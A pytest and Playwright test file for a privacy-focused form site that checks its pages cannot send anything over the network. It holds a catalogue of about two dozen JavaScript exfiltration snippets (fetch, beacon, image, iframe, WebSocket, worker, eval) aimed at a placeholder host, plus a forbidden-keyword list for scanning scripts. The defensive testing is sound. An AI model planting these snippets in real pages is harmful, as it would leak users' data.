"""Promise 1: when the document has arrived it cannot make another request; counted at the server."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page

from quietform.blocks import Block, all_blocks, core_script, core_style, leave_script
from tests.browser.person import ASSESSMENTS, answer_by_mouse, run, see_result, some_answers
from tests.browser.server import CountingServer

POLICY = re.compile(
    r"default-src 'none'; script-src( 'sha256-[A-Za-z0-9+/=]{44}')+; style-src( 'sha256-[A-Za-z0-9+/=]{44}')+; "
    r"img-src data:; form-action 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
)
SCRIPTS = [block for block in all_blocks() if block.kind == "script"]
# Each tries to reach HOST from the page; none may arrive.
ATTEMPTS = {
    "fetch": "fetch('HOST/x').catch(() => {})",
    "fetch without cors": "fetch('HOST/x', { mode: 'no-cors', keepalive: true }).catch(() => {})",
    "XMLHttpRequest": "{ const r = new XMLHttpRequest(); r.open('GET', 'HOST/x'); try { r.send(); } catch {} }",
    "beacon": "navigator.sendBeacon('HOST/x', 'answers')",
    "image": "{ const i = new Image(); i.src = 'HOST/x'; document.body.append(i); }",
    "style": "{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'HOST/x'; document.head.append(l); }",
    "prefetch": "{ const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'HOST/x'; document.head.append(l); }",
    "background": "{ document.body.style.backgroundImage = 'url(HOST/x)'; }",
    "font": "{ const f = new FontFace('f', 'url(HOST/x)'); f.load().catch(() => {}); }",
    "frame": "{ const f = document.createElement('iframe'); f.src = 'HOST/x'; document.body.append(f); }",
    "object": "try { const o = document.createElement('object'); o.data = 'HOST/x'; document.body.append(o); } catch {}",
    "audio": "{ const a = document.createElement('audio'); a.src = 'HOST/x'; a.load(); document.body.append(a); }",
    "script": "try { const s = document.createElement('script'); s.src = 'HOST/x'; document.body.append(s); } catch {}",
    "module": "import('HOST/x').catch(() => {})",
    "worker": "try { new Worker('HOST/x'); } catch {}",
    "blob worker": "try { new Worker(URL.createObjectURL(new Blob([\"fetch('HOST/x')\"]))); } catch {}",
    "service worker": "navigator.serviceWorker.register('/x').catch(() => {})",
    "socket": "try { new WebSocket('HOST/x'.replace('http', 'ws')); } catch {}",
    "event source": "try { new EventSource('HOST/x'); } catch {}",
    "form": "{ const f = document.createElement('form'); f.action = 'HOST/x'; f.method = 'post'; document.body.append(f); f.submit(); }",
    "the form": "{ const f = document.querySelector('form'); f.action = 'HOST/x'; HTMLFormElement.prototype.submit.call(f); }",
    "markup": "try { document.body.innerHTML += '<img src=\"HOST/x\">'; } catch {}",
    "eval": "try { (0, eval)(\"fetch('HOST/x')\"); } catch {}",
}
# What the script would need to send, keep, say or run something; none of it may be in it.
FORBIDDEN = [
    "fetch",
    "XMLHttpRequest",
    "sendBeacon",
    "WebSocket",
    "EventSource",
    "RTCPeerConnection",
    "WebTransport",
    "Worker",
    "importScripts",
    "import",
    "export",
    "eval",
    "Function",
    "innerHTML",
    "outerText",
    "insertAdjacentHTML",
    "document.write",
    "setAttributeNS",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "caches",
    "cookie",
    "console",
    "history",
    "pushState",
    "replaceState",
    "open",
    "postMessage",
    "BroadcastChannel",
    "window.name",
    "geolocation",
    "clipboard",
    "Notification",
    "navigator",
    "assign",
]
# But where it does what a person asks for: a test below says what that is.
ALLOWED = {
    ("check", "sessionStorage"),
    ("core", "navigator"),
    ("core", "clipboard"),
    *(("leave", word) for word in ("sessionStorage", "localStorage", "indexedDB", "caches", "history", "replaceState")),
}


@pytest.mark.parametrize("name", ASSESSMENTS)
def test_an_assessment_is_one_document_under_the_closed_policy(site: Path, name: str) -> None:
    html = (site / name / "index.html").read_text(encoding="utf-8")
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert found is not None
    policy = found[1].replace("&#39;", "'")
    assert POLICY.fullmatch(policy)
    # Nothing in the document can run or be fetched before the policy holds.
    assert html.index("<meta http-equiv") == html.index("<meta charset=") + len('<meta charset="utf-8">')
    scripts = scripts_in(html)
    assert {script.hash for script in scripts} <= {script.hash for script in SCRIPTS}
    assert re.findall(r"'(sha256-[^']*)'", policy) == [
        *(script.hash for script in scripts),
        *(style.hash for style in styles_in(html)),
    ]
    markup = re.sub(r"<script.*?</script>", "", html, flags=re.DOTALL)
    for attribute in (" src=", " srcset=", " style=", " onclick", " action=", " formaction", " ping=", " background="):
        assert attribute not in markup, attribute


def styles_in(html: str) -> list[Block]:
    """The styles that a page holds, in order; each is one of those that are published."""
    found = [Block("style", "", text) for text in re.findall(r"<style>(.*?)</style>", html, re.DOTALL)]
    assert {style.hash for style in found} <= {block.hash for block in all_blocks() if block.kind == "style"}
    assert found[0].hash == core_style().hash
    return found


def scripts_in(html: str) -> list[Block]:
    """The scripts that a page holds, in order."""
    return [Block("script", "", text) for text in re.findall(r"<script>(.*?)</script>", html, re.DOTALL)]


def test_the_scripts_of_bar_and_core_come_first_and_are_the_same_bytes_on_every_assessment_page(site: Path) -> None:
    for name in ASSESSMENTS:
        first, second, *_ = scripts_in((site / name / "index.html").read_text(encoding="utf-8"))
        assert (first.text, second.text) == (leave_script().text, core_script().text)


def test_every_page_has_the_script_of_the_bar_right_after_it(site: Path) -> None:
    for path in site.rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        assert scripts_in(html)[0].text == leave_script().text
        assert html.index("<main") > html.index("</script>") > html.index("</header>"), path


def test_the_manifest_lists_every_script_that_any_page_can_hold(site: Path) -> None:
    blocks = json.loads((site / "manifest.json").read_text(encoding="utf-8"))["blocks"]
    for script in SCRIPTS:
        size = len(script.text.encode())
        assert {"kind": "script", "name": script.name, "bytes": size, "hash": script.hash} in blocks


@pytest.mark.parametrize("word", FORBIDDEN)
def test_no_script_has_a_word_for_sending_keeping_or_running(word: str) -> None:
    for script in SCRIPTS:
        if (script.name, word) not in ALLOWED:
            assert not re.search(rf"(?<![\w$]){re.escape(word)}(?![\w$])", script.text), script.name


def test_the_core_puts_a_result_on_the_clipboard_and_reads_nothing_from_it() -> None:
    assert re.findall(r"navigator[\w.]*", core_script().text) == ["navigator.clipboard.writeText"]


def test_the_part_that_leads_to_the_check_page_keeps_a_result_only_while_the_new_tab_opens() -> None:
    (part,) = (script.text for script in SCRIPTS if script.name == "check")
    assert re.findall(r"sessionStorage\.\w+", part) == ["sessionStorage.setItem", "sessionStorage.removeItem"]
    assert re.search(r"setTimeout\(\(\)=>sessionStorage\.removeItem\(\w+\)\)", part)


def test_the_script_of_the_bar_takes_away_what_is_kept_and_keeps_nothing() -> None:
    text = leave_script().text
    stores = re.findall(r"(?:indexedDB|caches|history)\.\w+", text)
    assert sorted(stores) == [
        "caches.delete", "caches.keys", "history.replaceState", "indexedDB.databases", "indexedDB.deleteDatabase"
    ]  # fmt: skip
    assert "setItem" not in text
    assert re.findall(r"(?:session|local)Storage[^,;)]", text) == []
    assert (
        len(re.findall(r"history\.replaceState\(null,\s*\"\",\s*location\.pathname\s*\+\s*location\.search\)", text))
        == 1
    )


def test_the_scripts_navigate_in_one_place_only_the_exit() -> None:
    # Keeping the page as a file asks where it came from; nothing else knows of an address.
    found = {script.name: re.findall(r"\blocation\b[\w.]*\(?", script.text) for script in SCRIPTS}
    assert {name: sorted(uses) for name, uses in found.items() if uses} == {
        "leave": ["location.hash", "location.pathname", "location.replace(", "location.search"],
        "core": ["location.protocol"],
    }
    text = leave_script().text
    (exit,) = re.findall(r'(\w+)\s*=\s*(?:/\*.*?\*/\s*\()?document\.querySelector\("a\.exit"\)', text)
    assert re.findall(r"location\.replace\([^)]*\)", text) == [f"location.replace({exit}.href)"]


def test_the_server_sees_one_request_from_the_page_to_the_printed_result(page: Page, server: CountingServer) -> None:
    page.goto(f"{server.url}/effort/")
    assert server.requests == ["GET /effort/"]
    answer_by_mouse(page, some_answers("effort", 1))
    see_result(page)
    page.locator("#print").click()
    page.emulate_media(media="print")
    page.pdf(format="A4")
    with page.expect_download():
        page.emulate_media(media="screen")
        page.locator("#keep").click()
    page.wait_for_timeout(300)
    assert server.requests == ["GET /effort/"]


def traffic(server: CountingServer, other: CountingServer) -> tuple[list[str], int, int]:
    """All that has arrived: requests at the page's own host, connections there and at another one."""
    return [*server.requests], server.connections, other.connections


# Chromium opens a connection for these before the policy refuses them; nothing is ever sent on it.
BARE_CONNECTION = {"frame", "form", "the form"}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_nothing_that_code_in_the_page_tries_reaches_a_server(
    server: CountingServer, tmp_path: Path, context: BrowserContext, attempt: str
) -> None:
    page = context.new_page()  # its console reports each refusal
    with CountingServer(tmp_path) as other:
        page.goto(f"{server.url}/readiness/")
        page.wait_for_timeout(100)
        before = traffic(server, other)
        assert before[0] == ["GET /readiness/"]
        for host in (server.url, other.url):
            run(page, f"void ({{}}); {ATTEMPTS[attempt].replace('HOST', host)}; 0", wait=False)
        page.wait_for_timeout(250)
        after = traffic(server, other)
        assert after[0] == before[0]
        assert other.requests == []
        if attempt not in BARE_CONNECTION:
            assert after == before


def test_each_attempt_does_reach_a_server_where_no_policy_forbids_it(tmp_path: Path, context: BrowserContext) -> None:
    """The proof that the attempts above are real ones: from a page without a policy each of them arrives."""
    page = context.new_page()
    (tmp_path / "open.html").write_text('<!doctype html><link rel="icon" href="data:,"><form></form>', encoding="utf-8")
    arrived: dict[str, bool] = {}
    with CountingServer(tmp_path) as server, CountingServer(tmp_path) as other:
        for name, code in ATTEMPTS.items():
            for host in (server.url, other.url):
                # A fresh page: one attempt may still be on its way when the next begins.
                page.close()
                page = context.new_page()
                page.goto(f"{server.url}/open.html")
                before = traffic(server, other)
                run(page, f"void ({{}}); {code.replace('HOST', host)}; 0", wait=False)
                page.wait_for_timeout(200)
                arrived[name] = arrived.get(name, False) or traffic(server, other) != before
    assert arrived == dict.fromkeys(ATTEMPTS, True)
